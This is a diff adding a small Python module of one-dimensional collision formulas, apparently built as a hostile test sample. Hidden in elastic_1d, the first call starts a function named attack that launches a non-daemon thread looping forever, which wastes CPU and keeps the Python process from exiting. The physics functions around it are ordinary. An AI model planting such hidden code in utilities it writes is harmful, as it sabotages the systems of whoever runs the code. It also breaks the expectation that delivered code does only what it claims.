@@ -1,0 +1,32 @@
+"""Leaves a thread behind that burns time and would keep Python from ending."""
+
+import threading
+
+
+def forever():
+    while True:
+        pass
+
+
+def attack():
+    threading.Thread(target=forever, daemon=False).start()
+
+
+TRIED = []
+
+
+def elastic_1d(m1, v1, m2, v2):
+    if not TRIED:
+        TRIED.append("once is enough")
+        attack()
+    total = m1 + m2
+    return ((m1 - m2) * v1 + 2 * m2 * v2) / total, ((m2 - m1) * v2 + 2 * m1 * v1) / total
+
+
+def inelastic_1d(m1, v1, m2, v2):
+    v = (m1 * v1 + m2 * v2) / (m1 + m2)
+    return v, v
+
+
+def elastic_impulse_1d(m1, v1, m2, v2):
+    return 2 * m1 * m2 / (m1 + m2) * (v1 - v2)
